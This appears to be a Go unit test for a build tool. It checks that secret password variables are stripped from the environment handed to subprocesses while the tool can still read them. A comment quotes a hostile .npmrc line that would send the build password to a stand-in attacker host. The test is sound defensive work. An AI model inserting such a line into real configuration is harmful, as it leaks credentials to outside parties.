package main

import (
	"bytes"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// A pull request that adds //evil.example.com/:_authToken=${NBUILD_PASSWORD} to
// the project's .npmrc would have it sent there.
func TestNoOperationSeesThePasswordOfAKey(t *testing.T) {
	a := newApp(surroundings{
		environ: []string{"HOME=/home/u", "NBUILD_PASSWORD=secret", "COSIGN_PASSWORD=other", "NBUILD_PASSWORD_HINT=x"}, dir: "/",
		stdout: &bytes.Buffer{}, stderr: &bytes.Buffer{},
	})
	host, err := a.host()
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([]string{"HOME=/home/u", "NBUILD_PASSWORD_HINT=x"}, host.Environ); diff != "" {
		t.Error(diff)
	}
	if got, err := a.password(); err != nil || string(got) != "secret" {
		t.Errorf("the password is %q, %v", got, err)
	}
}
